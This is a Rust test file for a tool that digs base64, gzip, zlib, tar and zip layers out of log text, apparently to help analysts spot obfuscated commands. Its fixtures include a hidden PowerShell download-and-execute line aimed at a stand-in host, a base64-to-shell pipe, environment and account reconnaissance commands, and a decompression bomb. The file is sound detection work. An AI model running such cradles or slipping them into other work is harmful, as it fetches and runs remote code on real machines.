use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};

use super::*;

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap_or_else(|error| panic!("{error}"));
    out.finish().unwrap_or_else(|error| panic!("{error}"))
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap_or_else(|error| panic!("{error}"));
    out.finish().unwrap_or_else(|error| panic!("{error}"))
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap_or_else(|error| panic!("{error}"));
    out.finish().unwrap_or_else(|error| panic!("{error}"))
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o600);
        out.append_data(&mut header, name, *bytes).unwrap_or_else(|error| panic!("{error}"));
    }
    out.into_inner().unwrap_or_else(|error| panic!("{error}"))
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in members {
        let options = zip::write::SimpleFileOptions::default();
        out.start_file(*name, options).unwrap_or_else(|error| panic!("{error}"));
        out.write_all(bytes).unwrap_or_else(|error| panic!("{error}"));
    }
    out.finish().unwrap_or_else(|error| panic!("{error}")).into_inner()
}

/// A line for each piece, indented by its depth.
fn outline(text: &str) -> Vec<String> {
    let found = decode(text);
    let line = |it: &Piece| {
        let what = match &it.content {
            Content::Text { text, charset, .. } => format!("{} {text:?}", charset.words()),
            Content::Binary { file_type, .. } => file_type.unwrap_or("bytes").to_owned(),
        };
        let name = it.name.as_deref().map(|it| format!(" {it}")).unwrap_or_default();
        let cut = it.cut.map(|it| format!(" ({it})")).unwrap_or_default();
        format!("{}{}{name}: {what}{cut}", "  ".repeat(it.depth - 1), it.encoding.words())
    };
    found.pieces.iter().map(line).chain(found.ended_by.map(str::to_owned)).collect()
}

#[test]
fn every_form_of_base64_is_read() {
    let said = "Write-Output 'ÿ??>>>'";
    let expected = [format!("base64: UTF-8 {said:?}")];
    assert_eq!(outline(&format!("x {} y", STANDARD.encode(said))), expected);
    assert_eq!(outline(&format!("x '{}'", STANDARD_NO_PAD.encode(said))), expected);
    let url = [format!("base64url: UTF-8 {said:?}")];
    assert!(URL_SAFE.encode(said).contains(['-', '_']), "the alphabets differ in it");
    assert_eq!(outline(&format!("?q={}&r=1", URL_SAFE.encode(said))), url);
    assert_eq!(outline(&format!("?q={}&r=1", URL_SAFE_NO_PAD.encode(said))), url);
    // In lines, as mail and certificates have it.
    let long = "Get-ChildItem env: | Out-String ".repeat(6);
    let lines: Vec<String> = STANDARD
        .encode(&long)
        .as_bytes()
        .chunks(64)
        .map(|it| String::from_utf8_lossy(it).into_owned())
        .collect();
    let found = outline(&format!("begin\r\n{}\r\nend", lines.join("\r\n")));
    assert_eq!(found, [format!("base64: UTF-8 {long:?}")]);
    // Behind a path, and cut off where a log cuts.
    let encoded = STANDARD_NO_PAD.encode(said);
    assert_eq!(outline(&format!("/index/{encoded}")), expected);
    let cut = decode(&format!("x {}", &encoded[..25]));
    assert_eq!(cut.pieces[0].text(), Some(&said[..18]).filter(|it| it.len() == 18));
    assert!(cut.pieces[0].cut.is_some());
}

#[test]
fn what_powershell_is_given_is_read_however_short() {
    let line = |parameter: &str, command: &str| {
        format!("PowerShell.exe -nop {parameter} {}", STANDARD.encode(utf16(command)))
    };
    for parameter in ["-enc", "-e", "-EncodedCommand", "/ec", "-encod", "\u{2013}enc", "-enc \""] {
        assert_eq!(outline(&line(parameter, "id")), ["base64: UTF-16LE \"id\""], "{parameter}");
    }
    // PowerShell takes it for UTF-16, whatever the script.
    assert_eq!(outline(&line("-enc", "эхо да")), ["base64: UTF-16LE \"эхо да\""]);
    // Nobody says that this is base64.
    assert_eq!(outline("grep -e SUQtMDAx"), Vec::<String>::new());
    assert_eq!(outline("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))").len(), 1);
    assert_eq!(outline("echo aWQ7aWQ7aWQ= | base64 -d | sh"), ["base64: UTF-8 \"id;id;id\""]);
    let place = decode(&line("-enc", "id")).pieces[0].place.clone();
    assert_eq!(place, Some(25..33));
}

#[test]
fn what_is_packed_is_unpacked_one_inside_the_other() {
    let command = "IEX (New-Object Net.WebClient).DownloadString('http://contoso-update.example/a.ps1')";
    let inner = format!(
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));",
        STANDARD.encode(gzip(command.as_bytes()))
    );
    let line = format!("powershell -w hidden -enc {}", STANDARD.encode(utf16(&inner)));
    assert_eq!(
        outline(&line),
        [
            format!("base64: UTF-16LE {inner:?}"),
            "  base64: application/gzip".to_owned(),
            format!("    gzip: UTF-8 {command:?}"),
        ]
    );
    for (packed, name) in [(deflate(command.as_bytes()), "deflate"), (zlib(command.as_bytes()), "zlib")] {
        let found = outline(&format!("x={}", STANDARD.encode(packed)));
        assert_eq!(found, ["base64: bytes".to_owned(), format!("  {name}: UTF-8 {command:?}")]);
    }
    let archive = tar(&[("a.txt", b"whoami /all"), ("b/c.gz", &gzip(b"net user"))]);
    assert_eq!(
        outline(&STANDARD.encode(&archive)),
        [
            "base64: application/x-tar",
            "  tar a.txt: UTF-8 \"whoami /all\"",
            "  tar b/c.gz: application/gzip",
            "    gzip: UTF-8 \"net user\"",
        ]
    );
    let archive = zip(&[("a.txt", b"whoami /all"), ("more.tar", &archive)]);
    assert_eq!(
        outline(&STANDARD.encode(archive)),
        [
            "base64: application/zip",
            "  zip a.txt: UTF-8 \"whoami /all\"",
            "  zip more.tar: application/x-tar",
            "    tar a.txt: UTF-8 \"whoami /all\"",
            "    tar b/c.gz: application/gzip",
            "      gzip: UTF-8 \"net user\"",
        ]
    );
}

/// A message of the form of msticpy's own example: a tar and a zip with the same three members, of which one is bytes
/// in a PEM file, one a text in a PEM file, and one that text in gzip. msticpy counts 8 rows, and 16 for a frame with
/// two of them: the members and the bytes. Those are there, and what msticpy leaves out (DIFFERENCES.md).
#[test]
fn the_counts_of_msticpy() {
    let pem = |bytes: &[u8]| {
        format!("-----BEGIN CERTIFICATE-----\r\n{}\r\n-----END CERTIFICATE-----\r\n", STANDARD.encode(bytes))
    };
    let bytes: Vec<u8> = (0..90_u32).map(|it| (it * it * 31 + 7 * it + 129) as u8).collect();
    let text = pem(&[&b"\xff\xfe"[..], &utf16("text\r\nfile\r\n")].concat());
    let (program, packed) = (pem(&bytes), gzip(text.as_bytes()));
    let members =
        [("dll.txt", program.as_bytes()), ("text.txt", text.as_bytes()), ("text.txt.gz", packed.as_slice())];
    let lines = |bytes: &[u8]| {
        let encoded = STANDARD.encode(bytes);
        let lines: Vec<&str> =
            encoded.as_bytes().chunks(64).filter_map(|it| std::str::from_utf8(it).ok()).collect();
        lines.join("\n")
    };
    let message =
        format!("Here is a tar:{} and a zip:{} The end.", lines(&tar(&members)), lines(&zip(&members)));
    let found = decode(&message);
    let is_theirs = |it: &&Piece| {
        matches!(it.encoding, Encoding::Tar | Encoding::Zip)
            || matches!(it.content, Content::Binary { file_type: None, .. })
    };
    assert_eq!(found.pieces.iter().filter(is_theirs).count(), 8);
    // Of each archive itself, the text behind two of its members, and what the gzip is.
    assert_eq!((found.pieces.len(), found.ended_by), (8 + 2 * 4, None), "{:?}", outline(&message));
    assert_eq!(found.texts().filter(|it| *it == "text\r\nfile\r\n").count(), 4);
}

#[test]
fn a_piece_says_what_it_is() {
    let found = decode(&format!("x {}", STANDARD.encode("abcdefghijklmno")));
    let piece = &found.pieces[0];
    assert_eq!((piece.place.clone(), piece.encoded_len, piece.len), (Some(2..22), 20, 15));
    assert_eq!(piece.sha256, "41c7760c50efde99bf574ed8fffc7a6dd3405d546d3da929b214c8945acf8a97");
    let mut program = vec![0_u8; 0x80];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x78;
    program[0x78..0x7a].copy_from_slice(b"PE");
    let found = decode(&STANDARD.encode(&program));
    let Content::Binary { file_type, head } = &found.pieces[0].content else {
        panic!("a program is no text")
    };
    assert_eq!(*file_type, Some("application/vnd.microsoft.portable-executable"));
    assert_eq!(*head, program);
}

#[test]
fn what_only_looks_like_base64_is_none() {
    for text in [
        "C:\\Windows\\System32\\SystemPropertiesAdvanced.exe",
        "/usr/lib/python3/dist-packages/cryptography/hazmat/bindings/rust",
        "MicrosoftWindowsClientWebExperienceHostContentDeliveryManager2024",
        "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
        "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}",
        "S-1-5-21-1004336348-1177238915-682003330-512",
        "TVqualityManagementInformationSystemAdministration",
        "--configuration-file-location --another_very_long_option_name",
        "",
        "====",
        "\u{0}\u{fffd}\u{10ffff}\u{202e}",
    ] {
        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn lone_surrogates_and_binary_are_said() {
    let mut bytes = utf16("Write-Output ");
    bytes.extend([0x00, 0xd8]);
    bytes.extend(utf16(" demo of it"));
    let found = decode(&format!("powershell -enc {}", STANDARD.encode(&bytes)));
    let Content::Text { text, charset, unreadable } = &found.pieces[0].content else {
        panic!("it is a text")
    };
    assert_eq!((text.as_str(), *charset), ("Write-Output \u{fffd} demo of it", Charset::Utf16Le));
    assert_eq!(*unreadable, 1);
    let bytes: Vec<u8> = (0..90_u32).map(|it| (it * it * 31 + 7 * it + 129) as u8).collect();
    assert_eq!(outline(&STANDARD.encode(bytes)), ["base64: bytes"]);
}

#[test]
fn bombs_are_bounded_and_it_is_said() {
    let bomb = gzip(&vec![b'a'; 100 << 20]);
    let found = decode(&STANDARD.encode(&bomb));
    assert_eq!(found.ended_by, Some("it unpacks to more than is looked at"));
    assert_eq!(found.pieces.last().map(|it| it.len), Some(16 << 20));
    let archive = zip(&(0..300).map(|_| ("same.txt", &b"whoami"[..])).enumerate().fold(
        Vec::<(&str, &[u8])>::new(),
        |mut all, (number, (_, bytes))| {
            all.push((Box::leak(format!("{number}.txt").into_boxed_str()), bytes));
            all
        },
    ));
    let found = decode(&STANDARD.encode(archive));
    assert_eq!(found.pieces.len(), 256);
    assert_eq!(found.ended_by, Some("there are more pieces than are looked at"));
    let mut nested = "the innermost of all commands".to_owned();
    for _ in 0..20 {
        nested = STANDARD.encode(nested);
    }
    let found = decode(&nested);
    assert_eq!((found.pieces.len(), found.ended_by), (16, Some("it goes on deeper than is looked")));
    let few = Bounds { depth: 2, pieces: 9, bytes: 1_000, ..Bounds::default() };
    assert_eq!(decode_within(&nested, few).pieces.len(), 2);
}

#[test]
fn damaged_archives_say_so() {
    let whole =
        gzip("Get-Process | Sort-Object CPU -Descending | Select-Object -First 10".repeat(9).as_bytes());
    let found = outline(&STANDARD.encode(&whole[..whole.len() - 12]));
    assert!(found[1].ends_with("(the packed data are damaged or cut off)"), "{found:?}");
    let archive = zip(&[("a.txt", &b"whoami /all".repeat(20))]);
    let found = outline(&STANDARD.encode(&archive[..archive.len() - 30]));
    assert_eq!(found, ["base64: application/zip (the packed data are damaged or cut off)"]);
    for flipped in (4..archive.len()).step_by(3) {
        let mut damaged = archive.clone();
        damaged[flipped] ^= 0x55;
        assert!(!decode(&STANDARD.encode(damaged)).pieces.is_empty());
    }
}
